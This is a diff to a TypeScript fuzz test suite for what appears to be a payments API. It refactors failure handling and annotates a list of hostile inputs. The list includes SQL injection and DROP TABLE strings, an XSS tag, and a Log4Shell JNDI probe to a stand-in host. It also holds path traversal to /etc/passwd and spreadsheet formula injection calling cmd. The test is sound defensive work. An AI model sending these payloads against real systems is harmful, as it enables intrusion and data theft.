@@ -76,6 +76,7 @@ const deep = (n: number): unknown => {
 };
 
 const INJECTIONS = [
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent as the literal text it is
   "' OR '1'='1", '"; DROP TABLE transactions; --', '<script>alert(1)</script>', '${jndi:ldap://evil.test/x}', '{{7*7}}',
   '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2f', '\u0000', 'a\u0000b', '\ud800', '\udfff\ud800', '🙂'.repeat(40),
   '\u202eevil', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|', '+1+1', '-2+3', '\t=1', FOREIGN_CARD, '4564 7100 0000 0004', `ref ${FOREIGN_CARD}`,
@@ -235,9 +236,18 @@ describe('hostile input over every operation (seeded)', () => {
         const refused = answer.status >= 400 || code < 0 || Number.isNaN(code);
         if (refused) stats.refused++;
         else stats.answered++;
-        if (answer.status >= 500) (stats.fiveHundreds++, failures.push(`${op.operationId} ${JSON.stringify(m).slice(0, 160)}: ${answer.status} ${text.slice(0, 200)}`));
-        if (leaks(answer.type, answer.body)) (stats.leaks++, failures.push(`${op.operationId} ${m.kind}: card number in the answer`));
-        if (refused && JSON.stringify(counts(sb)) !== JSON.stringify(before)) (stats.storedByRefusal++, failures.push(`${op.operationId} ${JSON.stringify(m).slice(0, 160)}: a refusal stored (${text.slice(0, 120)})`));
+        if (answer.status >= 500) {
+          stats.fiveHundreds++;
+          failures.push(`${op.operationId} ${JSON.stringify(m).slice(0, 160)}: ${answer.status} ${text.slice(0, 200)}`);
+        }
+        if (leaks(answer.type, answer.body)) {
+          stats.leaks++;
+          failures.push(`${op.operationId} ${m.kind}: card number in the answer`);
+        }
+        if (refused && JSON.stringify(counts(sb)) !== JSON.stringify(before)) {
+          stats.storedByRefusal++;
+          failures.push(`${op.operationId} ${JSON.stringify(m).slice(0, 160)}: a refusal stored (${text.slice(0, 120)})`);
+        }
       }
     }
     console.log(`fuzz: ${JSON.stringify(stats)}`);
